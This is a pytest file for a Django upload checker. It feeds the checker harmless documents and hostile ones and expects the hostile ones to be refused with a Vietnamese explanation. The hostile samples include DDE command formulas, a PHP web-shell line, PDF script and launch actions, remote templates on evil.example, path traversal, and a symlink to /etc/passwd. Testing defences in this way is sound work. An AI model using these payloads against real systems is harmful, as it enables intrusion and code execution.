"""Uploads: what is a sound document passes, what only looks like one is refused with a sentence that helps."""

import io
import stat
import struct
import zipfile
from pathlib import Path

import pytest
from django.utils.translation import override

from media.checks import inspect
from media.refusing import RefusedFile
from tests.media.conftest import CONTENT_TYPES, DOCUMENT, pdf, word, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = (
    '<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    "</Relationships>"
)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def compound(*names: str) -> bytes:
    """An old Office file as far as its directory goes."""
    entries = b""
    for name in names:
        raw = name.encode("utf-16-le") + b"\0\0"
        entries += raw.ljust(64, b"\0") + struct.pack("<HB", len(raw), 2) + bytes(61)
    return OLE.ljust(512, b"\0") + entries.ljust(512, b"\0")


def linked(kind: str, target: str) -> bytes:
    return word({"word/_rels/document.xml.rels": REL.format(kind=kind, target=target)})


def with_link_to_outside() -> bytes:
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo("word/media/a.png")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return target.getvalue()


def twice_the_same_part() -> bytes:
    target = io.BytesIO(word())
    with pytest.warns(UserWarning), zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return target.getvalue()


def opendocument(mimetype: str = "application/vnd.oasis.opendocument.text", **more: str) -> bytes:
    parts = {"mimetype": mimetype, "content.xml": "<x/>", "META-INF/manifest.xml": "<manifest/>"}
    return zipped(
        parts | {name.replace("__", "/"): text for name, text in more.items()}, packing=zipfile.ZIP_STORED
    )


MACRO_TYPES = CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
WORKBOOK_TYPES = CONTENT_TYPES.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")
WORKBOOK = zipped({"[Content_Types].xml": WORKBOOK_TYPES, "xl/workbook.xml": "<workbook/>"})
DDE = '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'

SOUND = {
    "a plain document": (word(), "đơn.docx"),
    "a hyperlink": (linked("hyperlink", "https://nghean.gov.vn/"), "đơn.docx"),
    "a template on the author's own disk": (
        linked("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        "a.docx",
    ),
    "a chart with its workbook": (word({"word/embeddings/Sheet1.xlsx": WORKBOOK}), "a.docx"),
    "an equation": (word({"word/embeddings/oleObject1.bin": compound("Equation Native")}), "a.docx"),
    "a workbook": (WORKBOOK, "bảng.XLSX"),
    "a text document": (opendocument(), "đơn.odt"),
    "a spreadsheet": (opendocument("application/vnd.oasis.opendocument.spreadsheet"), "bảng.ods"),
    "an old document": (compound("Root Entry", "WordDocument"), "đơn.doc"),
    "an old workbook": (compound("Root Entry", "Workbook"), "bảng.xls"),
    "a PDF": (pdf(), "đơn.pdf"),
    "a PDF that mentions scripts in words": (pdf(b"(/Java Script)"), "đơn.pdf"),
}

HOSTILE = {
    "nothing at all": (b"", "đơn.docx", "empty"),
    "an extension that runs": (word(), "đơn.exe", "extension"),
    "a picture with code": (b"<svg onload=alert(1)>", "a.svg", "extension"),
    "a web page's name": (b"<html>", "a.html", "extension"),
    "a formula table": (b"=cmd|' /C calc'!A0", "a.csv", "extension"),
    "no extension": (word(), "đơn", "extension"),
    "a web page as a document": (b"<html><script>alert(1)</script>", "a.docx", "disguised"),
    "a program as a PDF": (b"MZ\x90\x00" + bytes(400), "a.pdf", "disguised"),
    "rich text as an old document": (b"{\\rtf1\\ansi}", "a.doc", "disguised"),
    "a virus test string": (EICAR, "a.pdf", "disguised"),
    "a PDF named twice": (b"<?php system($_GET[0]);", "a.php.pdf", "disguised"),
    "a workbook called a document": (WORKBOOK, "a.docx", "disguised"),
    "an encrypted document": (compound("EncryptedPackage"), "a.docx", "disguised"),
    "a document cut off": (word()[:-40], "a.docx", "broken"),
    "a document with a flipped byte": (word().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "a.docx", "broken"),
    "an empty archive": (zipped({"a.txt": ""}), "a.docx", "disguised"),
    "a macro project": (word({"word/vbaProject.bin": b"x"}), "a.docx", "macro"),
    "a macro type": (zipped({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": DOCUMENT}), "a.docx", "macro"),
    "a template from a server": (linked("attachedTemplate", "https://evil.example/a.dotm"), "a.docx", "external"),
    "a template from a share": (linked("attachedTemplate", "\\\\evil.example\\a.dotm"), "a.docx", "external"),
    "a share by file address": (linked("attachedTemplate", "file://evil.example/a.dotm"), "a.docx", "external"),
    "a picture that calls home": (linked("image", "http://evil.example/p.png"), "a.docx", "external"),
    "a command field": (word({"word/header1.xml": DDE}), "a.docx", "command"),
    "a bomb": (word({"word/media/a.bin": bytes(30 * 1024 * 1024)}), "a.docx", "bomb"),
    "a thousand parts": (word({f"word/media/{n}.xml": "" for n in range(1000)}), "a.docx", "too-many-parts"),
    "a path upward": (word({"../../../etc/cron.d/x": "x"}), "a.docx", "path"),
    "a path from the root": (word({"/etc/cron.d/x": "x"}), "a.docx", "path"),
    "a path with a drive": (word({"C:\\x": "x"}), "a.docx", "path"),
    "a link to outside": (with_link_to_outside(), "a.docx", "path"),
    "an archive inside": (word({"word/embeddings/a.zip": zipped({"a": "a"})}), "a.docx", "packed"),
    "a document in a document in a document": (
        word({"word/embeddings/b.docx": word({"word/embeddings/c.docx": word()})}), "a.docx", "packed",
    ),
    "a macro in a chart": (
        word({"word/embeddings/b.docx": word({"word/vbaProject.bin": b"x"})}), "a.docx", "macro",
    ),
    "a program inside": (word({"word/media/a.png": b"MZ\x90\x00"}), "a.docx", "packed"),
    "a packed object": (word({"word/embeddings/o.bin": compound("\x01Ole10Native")}), "a.docx", "packed"),
    "a web page before the archive": (b"<script>alert(1)</script>" + word(), "a.docx", "disguised"),
    "a program behind the archive": (word() + b"MZ" + bytes(100), "a.docx", "broken"),
    "text before the first part": (b"PK\x03\x04" + bytes(60) + word(), "a.docx", "polyglot"),
    "the same part twice": (twice_the_same_part(), "a.docx", "polyglot"),
    "a text document with macros": (opendocument(Basic__script="x"), "a.odt", "macro"),
    "a text document with a password": (
        zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "",
                "META-INF/manifest.xml": "<encryption-data/>"}), "a.odt", "locked",
    ),
    "a spreadsheet called a text": (opendocument("application/vnd.oasis.opendocument.spreadsheet"), "a.odt", "broken"),
    "an old document with macros": (compound("WordDocument", "Macros", "VBA"), "a.doc", "macro"),
    "an old document with a program": (compound("WordDocument", "\x01Ole10Native"), "a.doc", "packed"),
    "an old document without a text": (compound("Root Entry"), "a.doc", "broken"),
    "a PDF cut off": (pdf()[:-8], "a.pdf", "broken"),
    "a PDF of no known version": (pdf().replace(b"1.4", b"9.9"), "a.pdf", "broken"),
    "a PDF with a script": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", "active"),
    "a PDF with a veiled script": (pdf(b"<< /S /Java#53cript >>"), "a.pdf", "active"),
    "a PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "a.pdf", "active"),
    "a PDF that is a web page": (pdf(b"<html><script>alert(1)</script>"), "a.pdf", "polyglot"),
    "a PDF with an archive behind": (pdf() + zipped({"a": "a"}), "a.pdf", "trailing"),
    "a PDF with a tail": (pdf() + b"tail", "a.pdf", "trailing"),
}  # fmt: skip


@pytest.mark.parametrize("case", SOUND)
def test_a_sound_file_passes(case):
    content, name = SOUND[case]
    file = io.BytesIO(content)
    facts = inspect(file, name)
    assert facts.size == len(content) and len(facts.sha256) == 64
    assert file.tell() == 0


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused(case):
    content, name, code = HOSTILE[case]
    with pytest.raises(RefusedFile) as refused:
        inspect(io.BytesIO(content), name)
    assert refused.value.code == code


@pytest.mark.parametrize("case", HOSTILE)
def test_a_refusal_speaks_vietnamese_and_says_what_to_do(case):
    content, name, _code = HOSTILE[case]
    with override("vi"), pytest.raises(RefusedFile) as refused:
        inspect(io.BytesIO(content), name)
    sentence = str(refused.value.reason)
    assert "Hãy" in sentence and "%(" not in sentence


def test_a_file_over_the_limit_is_refused(settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 100
    with pytest.raises(RefusedFile) as refused:
        inspect(io.BytesIO(word()), "a.docx")
    assert refused.value.code == "too-big"


@pytest.mark.parametrize("length", range(0, 400, 7))
def test_any_cut_is_a_refusal_and_never_a_crash(length):
    for content, name in (SOUND["a plain document"], SOUND["a PDF"], SOUND["a text document"]):
        with pytest.raises(RefusedFile):
            inspect(io.BytesIO(content[: min(length, len(content) - 30)]), name)


@pytest.mark.real_data
def test_every_real_form_passes(portal_data: Path):
    forms = [path for path in sorted((portal_data / "forms").iterdir()) if path.suffix != ".json"]
    assert len(forms) == 19
    for path in forms:
        with path.open("rb") as file:
            assert inspect(file, path.name).size == path.stat().st_size
